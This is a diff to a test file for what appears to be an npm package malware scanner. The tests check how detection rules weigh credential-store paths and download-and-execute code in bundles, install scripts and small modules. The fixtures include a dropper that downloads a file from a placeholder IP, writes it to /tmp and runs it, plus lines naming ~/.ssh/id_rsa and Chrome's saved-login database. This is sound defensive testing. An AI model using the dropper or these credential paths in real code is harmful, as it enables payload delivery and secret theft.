@@ -70,7 +70,7 @@ describe('weighing by execution context (SDK idioms vs install-time theft)', () 
   });
 
   it('credential-store names in a bundle-sized file weigh medium; in a small module they keep their weight', async () => {
-    const mention = "const p = require('path').join(require('os').homedir(), '.npmrc');\n";
+    const mention = "const p = require('path').join(require('os').homedir(), '.ssh', 'id_rsa');\n";
     const small = await ruleFindings('JS-004', mention);
     expect(small[0]?.severity).toBe('high');
     const bundle = await ruleFindings(
@@ -166,5 +166,43 @@ describe('npm publish through a local exec wrapper', () => {
       (x) => x.ruleId === 'JS-001' && /publish/.test(x.message),
     );
     expect(f?.severity).toBe('high');
+  });
+});
+
+describe('JS-009 in bundles', () => {
+  const dropper = `const http = require('http'), fs = require('fs'), cp = require('child_process');
+    http.get('http://192.0.2.1/p', r => { r.pipe(fs.createWriteStream('/tmp/p')); cp.spawn('/tmp/p'); });`;
+  const padding = `\n/* ${'bundled code '.repeat(20_000)} */\n`;
+  it('a download, a write and a process in a bundle-sized imported file weigh medium', async () => {
+    const f = (await jsFindings({ 'index.js': dropper + padding })).filter((x) => x.ruleId === 'JS-009');
+    expect(f[0]?.severity).toBe('medium');
+  });
+  it('the same file keeps high when it runs at install, and a small imported module keeps high', async () => {
+    const install = (await jsFindings({ 'install.js': dropper + padding }, INSTALL())).filter(
+      (x) => x.ruleId === 'JS-009',
+    );
+    expect(install[0]?.severity).toBe('high');
+    const small = (await jsFindings({ 'index.js': dropper })).filter((x) => x.ruleId === 'JS-009');
+    expect(small[0]?.severity).toBe('high');
+  });
+});
+
+describe('JS-004 on configuration that tooling reads for itself', () => {
+  const npmrc = `const path = require('path'), os = require('os');
+    module.exports = (scope) => readConfig(path.join(os.homedir(), '.npmrc'), scope);`;
+  it('a small imported module that names ~/.npmrc (registry-url style) weighs medium and stays clean', async () => {
+    const f = (await jsFindings({ 'index.js': npmrc })).filter((x) => x.ruleId === 'JS-004');
+    expect(f[0]?.severity).toBe('medium');
+    expect((await scanInline({ 'index.js': npmrc })).verdict.verdict).toBe('clean');
+  });
+  it('keeps high at install time, and for stores no library reads as its own config', async () => {
+    const install = (await jsFindings({ 'install.js': npmrc }, INSTALL())).filter(
+      (x) => x.ruleId === 'JS-004',
+    );
+    expect(install[0]?.severity).toBe('high');
+    const chrome = `const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data');
+      module.exports = p;`;
+    const f = (await jsFindings({ 'index.js': chrome })).filter((x) => x.ruleId === 'JS-004');
+    expect(f[0]?.severity).toBe('high');
   });
 });
